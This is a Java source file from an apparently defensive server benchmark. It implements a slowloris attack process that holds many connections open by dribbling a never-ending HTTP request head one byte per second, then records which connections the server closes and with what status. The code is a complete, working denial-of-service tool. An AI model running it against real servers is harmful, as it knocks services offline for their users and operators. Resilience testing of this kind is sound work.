package org.vsriov.bench;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.Channel;
import io.netty.channel.ChannelFuture;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;

/**
 * Attack 2, slowloris (an attacker process, see {@link AttackProcess}): connections that send a
 * request head one byte a second and never finish it, each holding a connection for as long as the
 * server lets it; a server with a deadline on request heads closes them.
 */
final class Slowloris extends AttackProcess {

	// After the head's start, the value of X-a grows by an 'a' a second: the head never ends.
	private static final byte[] HEAD = "GET /api/v1/pf HTTP/1.1\r\nHost: x\r\nX-a: ".getBytes(StandardCharsets.US_ASCII);

	private final int connections;

	private final List<Dribbler> open = new ArrayList<>();

	private final List<Long> closeMillis = new ArrayList<>();

	private final List<Long> connectMillis = new ArrayList<>();

	private final TreeMap<String, Long> counts = new TreeMap<>();

	private boolean stopping;

	private Slowloris(String[] args) {
		super(args);
		this.connections = intArg("connections");
	}

	public static void main(String[] args) {
		new Slowloris(args).run();
	}

	@Override
	void start() {
		for (int i = 0; i < this.connections; i++) {
			long started = System.nanoTime();
			bootstrap().handler(new Dribbler(started)).connect().addListener((ChannelFuture done) -> {
				if (!done.isSuccess()) {
					this.counts.merge("connect failed", 1L, Long::sum);
				}
			});
		}
		this.loop.scheduleAtFixedRate(() -> List.copyOf(this.open).forEach(Dribbler::next), 1, 1, TimeUnit.SECONDS);
	}

	@Override
	AttackReport stop() {
		this.stopping = true;
		this.open.forEach((dribbler) -> dribbler.channel.close());
		this.counts.put("connections", (long) this.connections);
		this.counts.put("connected", (long) this.connectMillis.size());
		this.counts.put("closed by server", (long) this.closeMillis.size());
		return new AttackReport(this.counts, this.closeMillis, this.connectMillis);
	}

	/** One connection: the next byte of the head each second; whatever the server answers is noted. */
	private final class Dribbler extends ChannelInboundHandlerAdapter {

		private final long started;

		private long opened;

		private Channel channel;

		private int sent;

		// The start of the server's answer, if it answers (a 408, say), for its status line.
		private final StringBuilder answer = new StringBuilder();

		Dribbler(long started) {
			this.started = started;
		}

		@Override
		public void channelActive(ChannelHandlerContext ctx) {
			this.opened = System.nanoTime();
			this.channel = ctx.channel();
			Slowloris.this.connectMillis.add(millisSince(this.started));
			Slowloris.this.open.add(this);
			next();
		}

		void next() {
			byte next = (this.sent < HEAD.length) ? HEAD[this.sent] : (byte) 'a';
			this.sent++;
			this.channel.writeAndFlush(Unpooled.wrappedBuffer(new byte[] { next }));
		}

		@Override
		public void channelRead(ChannelHandlerContext ctx, Object message) {
			var bytes = (ByteBuf) message;
			if (this.answer.length() < 12) {
				this.answer.append(bytes.toString(StandardCharsets.US_ASCII));
			}
			bytes.release();
		}

		@Override
		public void channelInactive(ChannelHandlerContext ctx) {
			Slowloris.this.open.remove(this);
			if (Slowloris.this.stopping) {
				return;
			}
			Slowloris.this.closeMillis.add(millisSince(this.opened));
			// "HTTP/1.1 408": what the server said before it closed, if anything.
			String status = (this.answer.length() >= 12 && this.answer.indexOf("HTTP/") == 0)
					? "status " + this.answer.substring(9, 12) : "closed without an answer";
			Slowloris.this.counts.merge(status, 1L, Long::sum);
		}

		@Override
		public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
			ctx.close();
		}

	}

}
